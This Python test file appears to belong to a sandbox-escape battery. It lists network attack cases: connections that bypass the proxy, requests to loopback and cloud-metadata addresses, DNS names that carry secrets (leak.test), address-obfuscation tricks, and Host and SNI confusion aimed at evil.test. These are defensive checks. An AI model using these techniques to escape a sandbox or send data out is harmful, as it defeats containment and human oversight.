"""Attacks by way of the network: below the proxy, through it, and by names (sections F and G)."""

from __future__ import annotations

from tests.escape.battery import oracles, setups
from tests.escape.battery.arena import METADATA4, METADATA6, PRIVATE, WEB4, WEB6
from tests.escape.battery.attack import Attack, Kind

_CUT = ("closed", "ECONNREFUSED", "ECONNRESET", "ENETUNREACH", "EHOSTUNREACH", "EPERM", "EACCES", "EPIPE")
_NO_SOCKET = ("EPERM", "EACCES", "EPROTONOSUPPORT", "ESOCKTNOSUPPORT", "EAFNOSUPPORT")
_SILENT = ("error TimeoutError", "ECONNREFUSED", "EPERM", "EACCES", "ENETUNREACH", "EHOSTUNREACH", "done")
_OWN_RESOLVER = "the machine's name server is on its own loopback"
_ALLOWED = setups.allowed("**.allowed.test")
_HOST_NAME = "host.ringfence.internal:47124"
_NO_LISTENER = "this kernel cannot open such a socket"


def _connect(number: str, title: str, host: str, port: int, name: str, how: str = "plain", lack: str = "") -> Attack:
    return Attack(
        id=number,
        kind=Kind.NETWORK,
        title=title,
        program="connect",
        arguments=(host, str(port), "{secret}", how),
        arena=True,
        oracle=oracles.heard(name),
        ends=(*_CUT, *_NO_SOCKET),
        tier_b_ends=("ENOTSUP",),
        may_lack=lack,
    )


def _datagram(number: str, title: str, host: str, port: int, name: str, protocol: int = 0, lack: str = "") -> Attack:
    return Attack(
        id=number,
        kind=Kind.NETWORK,
        title=title,
        program="datagram",
        arguments=(host, str(port), "{secret}", str(protocol)),
        arena=True,
        oracle=oracles.heard(name),
        ends=(*_SILENT, *_NO_SOCKET),
        may_lack=lack,
    )


def _by_proxy(number: str, title: str, program: str, words: tuple[str, ...], *names: str) -> Attack:
    return Attack(
        id=number,
        kind=Kind.PROXY,
        title=title,
        program=program,
        arguments=(*words, "{secret}"),
        arena=True,
        oracle=oracles.heard(*names),
        ends=(*_CUT, "status 403", "status 407", "status 502", "socks 2", "socks 5"),
    )


NETWORK = (
    _connect("F79", "connect past the proxy", WEB4, 443, "web"),
    _connect("F79b", "connect past the proxy by IPv6", WEB6, 443, "web6"),
    _connect("F80", "connect to an unusual port", WEB4, 47123, "web-odd-port"),
    _connect("F80b", "connect to an IPv4 address written as IPv6", f"::ffff:{WEB4}", 443, "web"),
    _connect("F80c", "connect to an address written as one number", "0x01010101", 443, "web"),
    _connect("F81", "connect to another host by the port of the proxy", "127.0.0.9", 3128, "loopback-neighbour"),
    _connect("F82", "send data in the first packet (TCP Fast Open)", WEB4, 443, "web", "fastopen"),
    _connect("F83", "connect by Multipath TCP", WEB4, 443, "web", "mptcp", _NO_LISTENER),
    _connect("F83b", "connect by SCTP", WEB4, 47126, "sctp", "sctp", _NO_LISTENER),
    _datagram("F83c", "send by UDP-Lite", WEB4, 47125, "udplite", 136, _NO_LISTENER),
    _datagram("F84", "send by UDP", WEB4, 443, "udp"),
    _datagram("F84b", "send by UDP over IPv6", WEB6, 443, "udp6"),
    Attack(
        id="F85",
        kind=Kind.NETWORK,
        title="open a raw socket, for data in pings",
        program="open_socket",
        arguments=("2", "3", "1"),
        oracle=oracles.said_success,
        ends=_NO_SOCKET,
        may_lack="only root may open raw sockets",
    ),
    _connect("F86", "connect to a service of the host's own", "127.0.0.1", 47124, "loopback"),
    _connect("F86b", "connect to a service of the host's own by IPv6", "::1", 47124, "loopback6"),
    _connect("F86c", "connect to the private network", PRIVATE, 5432, "private"),
    _connect("F87", "connect to the cloud's metadata", METADATA4, 80, "metadata"),
    _connect("F87b", "connect to the cloud's metadata by IPv6", METADATA6, 80, "metadata6"),
    _connect("F87c", "connect to the metadata as IPv6", f"::ffff:{METADATA4}", 80, "metadata"),
    Attack(
        id="F88",
        kind=Kind.NETWORK,
        title="let somebody in",
        program="listen",
        arguments=("{port}", "{secret}"),
        arena=True,
        setup=(setups.somebody_calls,),
        oracle=oracles.helper_saw,
        ends=("error TimeoutError", "EPERM", "EACCES"),
    ),
)

PROXY = (
    Attack(
        id="G89",
        kind=Kind.PROXY,
        title="ask a name server of its choice for a name that carries data",
        program="query",
        arguments=(WEB4, "{secret}.leak.test"),
        arena=True,
        oracle=oracles.heard("dns"),
        ends=_SILENT,
    ),
    Attack(
        id="G89b",
        kind=Kind.PROXY,
        title="ask the private network's name server for a name that carries data",
        program="query",
        arguments=(PRIVATE, "{secret}.leak.test"),
        arena=True,
        oracle=oracles.heard("dns-private"),
        ends=_SILENT,
    ),
    Attack(
        id="G89c",
        kind=Kind.PROXY,
        title="ask the system's name server for a name that carries data",
        program="resolve",
        arguments=("{secret}.leak.test",),
        arena=True,
        oracle=oracles.heard("resolver-0", "resolver-1", "resolver-2"),
        ends=("done", "EAI -2", "EAI -3", "EAI -5"),
        may_lack=_OWN_RESOLVER,
    ),
    _by_proxy("G93", "tunnel to an address", "tunnel", (f"{WEB4}:443",), "web"),
    _by_proxy("G93b", "tunnel to the host itself", "tunnel", ("127.0.0.1:47124",), "loopback"),
    _by_proxy(
        "G93c",
        "tunnel to the host by name",
        "tunnel",
        ("localhost:47124",),
        "loopback",
        "loopback6",
    ),
    _by_proxy("G93d", "tunnel to the metadata", "tunnel", (f"{METADATA4}:80",), "metadata"),
    _by_proxy("G93e", "tunnel to an IPv6 address", "tunnel", (f"[{WEB6}]:443",), "web6"),
    _by_proxy("G93f", "tunnel to an address as one number", "tunnel", ("0x7f000001:47124",), "loopback"),
    _by_proxy("G93g", "tunnel to IPv4 as IPv6", "tunnel", ("[::ffff:127.0.0.1]:47124",), "loopback"),
    _by_proxy("G93h", "tunnel to the host by the sandbox's name for it", "tunnel", (_HOST_NAME,), "loopback"),
    _by_proxy("G93i", "tunnel to the host by a short address", "tunnel", ("127.1:47124",), "loopback"),
    _by_proxy("G93j", "tunnel to the host by the address of nobody", "tunnel", ("0.0.0.0:47124",), "loopback"),
    _by_proxy("G93k", "tunnel to the host by IPv4 in hexadecimal", "tunnel", ("[::ffff:7f00:1]:47124",), "loopback"),
    _by_proxy("G93l", "tunnel to the host by the IPv6 address of nobody", "tunnel", ("[::]:47124",), "loopback6"),
    _by_proxy(
        "G92", "ask for a name that ends like an allowed one", "tunnel", ("public.allowed.test.evil.test:443",), "web"
    ),
    Attack(
        id="G93m",
        kind=Kind.PROXY,
        title="ask an allowed host for a page of another",
        program="other_host",
        arguments=("public.allowed.test", "public.evil.test", "{secret}"),
        setup=(_ALLOWED,),
        arena=True,
        oracle=oracles.heard_text("{secret}"),
        ends=(*_CUT, "status 400", "status 403", "status 421"),
        may_lack=_OWN_RESOLVER,
    ),
    Attack(
        id="G93n",
        kind=Kind.PROXY,
        title="ask an allowed host for a page of another, in the second request",
        program="other_host",
        arguments=("public.allowed.test", "public.allowed.test,public.evil.test", "first"),
        setup=(_ALLOWED,),
        arena=True,
        oracle=oracles.heard_text("public.evil.test"),
        ends=(*_CUT, "status 400", "status 403", "status 421"),
        may_lack=_OWN_RESOLVER,
    ),
    Attack(
        id="G93o",
        kind=Kind.PROXY,
        title="open a tunnel to an allowed host and ask for another in TLS",
        program="hello",
        arguments=("public.allowed.test:443", "other.evil.test"),
        setup=(_ALLOWED,),
        arena=True,
        oracle=oracles.heard_text("other.evil.test"),
        ends=(*_CUT, "status 403", "status 421"),
        may_lack=_OWN_RESOLVER,
    ),
    *(
        Attack(
            id=f"G96{letter}",
            kind=Kind.PROXY,
            title=f"have an allowed name lead to {what}",
            program=program,
            arguments=words,
            setup=(_ALLOWED,),
            arena=True,
            oracle=oracles.heard("loopback", "metadata"),
            ends=(*_CUT, "status 403", "status 502", "socks 2"),
            may_lack=_OWN_RESOLVER,
        )
        for letter, what, program, words in (
            ("", "the host itself", "tunnel", ("loopback.allowed.test:47124", "{secret}")),
            ("b", "the metadata", "tunnel", ("metadata.allowed.test:80", "{secret}")),
            ("c", "the metadata, for a page", "fetch", ("http://metadata.allowed.test/", "{secret}")),
            (
                "d",
                "the host itself, past the proxy",
                "connect",
                ("loopback.allowed.test", "47124", "{secret}", "plain"),
            ),
            ("e", "the metadata, by SOCKS", "socks", ("metadata.allowed.test", "80", "{secret}")),
        )
    ),
    Attack(
        id="G89d",
        kind=Kind.PROXY,
        title="ask the proxy for a tunnel to a name that carries data",
        program="tunnel",
        arguments=("public.{secret}.leak.test:443", "x"),
        arena=True,
        oracle=oracles.heard("resolver-0", "resolver-1", "resolver-2"),
        ends=(*_CUT, "status 403"),
        may_lack=_OWN_RESOLVER,
    ),
    Attack(
        id="F100",
        kind=Kind.NETWORK,
        title="change the address while the call is under way",
        program="swap",
        arguments=("address", WEB4, "443", "{secret}"),
        arena=True,
        oracle=oracles.heard("web"),
        ends=("done",),
    ),
    Attack(
        id="G89e",
        kind=Kind.PROXY,
        title="connect to a name that carries data",
        program="connect",
        arguments=("public.{secret}.leak.test", "443", "x", "plain"),
        arena=True,
        oracle=oracles.heard("resolver-0", "resolver-1", "resolver-2"),
        ends=_CUT,
        may_lack=_OWN_RESOLVER,
    ),
    _by_proxy("G91", "ask for an address by SOCKS", "socks", (WEB4, "443"), "web"),
    _by_proxy("G91b", "ask for the host itself by SOCKS", "socks", ("127.0.0.1", "47124"), "loopback"),
    _by_proxy("G91c", "ask for the metadata by SOCKS", "socks", (METADATA4, "80"), "metadata"),
    _by_proxy("G95", "ask for a page", "fetch", (f"http://{WEB4}/",), "web-plain"),
    _by_proxy("G95b", "ask for a page of the metadata", "fetch", (f"http://{METADATA4}/latest",), "metadata"),
    _by_proxy("G95c", "ask for a page of the host itself", "fetch", ("http://127.0.0.1:47124/",), "loopback"),
)
